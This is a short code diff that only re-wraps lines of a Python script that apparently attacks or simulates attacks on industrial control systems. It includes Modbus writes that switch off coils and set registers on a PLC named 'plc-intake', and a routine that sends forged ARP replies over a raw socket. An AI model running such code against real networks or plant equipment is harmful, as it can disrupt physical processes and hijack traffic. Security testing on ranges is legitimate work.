@@ -134,8 +134,8 @@ def dnp3_silence(run):
 
 def write_modbus(run):
     c = modbus("plc-intake")
-    for what, *args in ((c.write_coil, 0, False), (c.write_register, 3, 1000), (c.write_registers, 0, [350, 390]), (c.write_coil, 2, False),
-                        (c.write_coil, 1, False)):
+    for what, *args in ((c.write_coil, 0, False), (c.write_register, 3, 1000), (c.write_registers, 0, [350, 390]),
+                        (c.write_coil, 2, False), (c.write_coil, 1, False)):
         ask(what, *args, device_id=1)
         time.sleep(1)
     c.close()
@@ -148,7 +148,8 @@ def claim(ip, mac):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind(("eth0", 0))
     addr = socket.inet_aton(ip)
-    s.send(router + hw + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + said + addr + router + socket.inet_aton(ZONES["operations"][0]))
+    s.send(router + hw + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + said + addr + router +
+           socket.inet_aton(ZONES["operations"][0]))
     s.close()
 
 
